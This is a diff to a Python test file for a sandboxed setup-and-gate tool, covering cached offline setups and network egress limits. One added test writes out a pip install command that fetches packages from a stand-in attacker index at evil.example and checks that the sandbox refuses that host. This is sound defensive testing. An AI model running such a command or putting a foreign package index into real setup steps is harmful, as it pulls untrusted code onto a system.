@@ -9,6 +9,9 @@ from pathlib import Path
 
 import pytest
 
+from loop.gates.facts import Facts
+from loop.gates.gate import GateReport, run_gate
+from loop.gates.profile import gate_override, resolve
 from loop.gates.setup_cache import SetupCache
 from loop.work.setting_up import SetUp
 from tests.tools.conftest import bubblewrap, plain
@@ -16,7 +19,7 @@ from tests.tools.index_support import PACKAGE, Index, index
 from tests.tools.tls_support import authority
 from tools.sandbox.egress import Egress, Host
 from tools.sandbox.probe import Sandbox
-from tools.sandbox.runner import Box, CommandResult
+from tools.sandbox.runner import Box, CommandResult, Network, Runner
 
 pytestmark = [pytest.mark.sandbox, pytest.mark.xdist_group("sandbox")]
 assert bubblewrap  # fixtures
@@ -61,11 +64,12 @@ class Node:
         (top / "src" / "a.py").write_text("source\n")
         return top
 
-    async def set_up(
-        self, tree: Path, *, online: bool = True, command: str = COMMAND
-    ) -> CommandResult:
-        runner = self.sandbox.runner(Box(tree))
-        set_up = SetUp(
+    @property
+    def hosts(self) -> Egress:
+        return Egress((Host(NAME, self.index.port, private=True),))
+
+    def setting_up(self, tree: Path, runner: Runner) -> SetUp:
+        return SetUp(
             repository=self.repository,
             workspace=tree,
             paths=frozenset(self.tracked),
@@ -73,13 +77,23 @@ class Node:
             runner=runner,
             cache=self.cache,
         )
-        hosts = Egress((Host(NAME, self.index.port, private=True),))
-        return await set_up(
+
+    async def set_up(
+        self, tree: Path, *, online: bool = True, command: str = COMMAND
+    ) -> CommandResult:
+        return await self.setting_up(tree, self.sandbox.runner(Box(tree)))(
             command,
             script=command,
-            network=hosts if online else "none",
+            network=self.hosts if online else "none",
             timeout_seconds=120,
         )
+
+    async def gate(self, tree: Path, *, online: bool = True, **commands: str) -> GateReport:
+        network: Network = self.hosts if online else "none"
+        override = gate_override("test", language="generic", commands=commands, network=network)
+        runner = self.sandbox.runner(Box(tree))
+        profile = resolve(Facts(frozenset(self.tracked)), [override])
+        return await run_gate(profile, runner, set_up=self.setting_up(tree, runner))
 
     async def run(self, tree: Path, command: str = USE) -> str:
         result = await self.sandbox.runner(Box(tree)).run(command, timeout_seconds=60)
@@ -115,6 +129,41 @@ async def test_the_second_work_tree_needs_no_network(node: Node) -> None:
     assert len(node.index.requests) == asked > 0
     assert await node.run(first) == await node.run(second) == HELLO
     assert (second / "src" / "a.py").read_text() == "source\n"
+
+
+async def test_a_gate_runs_on_what_is_brought(node: Node) -> None:
+    """Scripts of a virtual environment name the place it was made at, which is the same."""
+    setup = "python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt"
+
+    first = await node.gate(node.tree("a"), setup=setup, test="greet")
+    second = await node.gate(node.tree("b"), online=False, setup=setup, test="greet")
+
+    for report in (first, second):
+        assert report.verdict == "GATE-PASS", report.commands
+        assert report.commands[1].output == HELLO.strip()
+    assert report.commands[0].output.startswith("installed as it was kept")
+
+
+async def test_what_a_setup_leaves_in_its_home_is_kept_too(node: Node) -> None:
+    command = "python3 -m pip install -q --user --retries=0 -r requirements.txt"
+    await node.set_up(node.tree("a"), command=command)
+    second = node.tree("b")
+
+    brought = await node.set_up(second, online=False, command=command)
+
+    assert brought.ok, brought.stderr
+    assert await node.run(second, "python3 -c 'import greeting; greeting.main()'") == HELLO
+
+
+async def test_a_failing_setup_tells_which_host_it_asked_for(node: Node) -> None:
+    tree = node.tree("a")
+    evil = "python3 -m pip install -q --retries=0 -i https://evil.example/s -r requirements.txt"
+
+    report = await node.gate(tree, setup=evil, test="true")
+
+    assert report.verdict == "GATE-ERROR"
+    assert "evil.example:443: not among the allowed hosts" in report.commands[0].output
+    assert "FOREMAN_ALLOWED_HOSTS" in report.commands[0].output
 
 
 async def test_without_a_network_and_an_entry_it_is_told_what_to_set(node: Node) -> None:
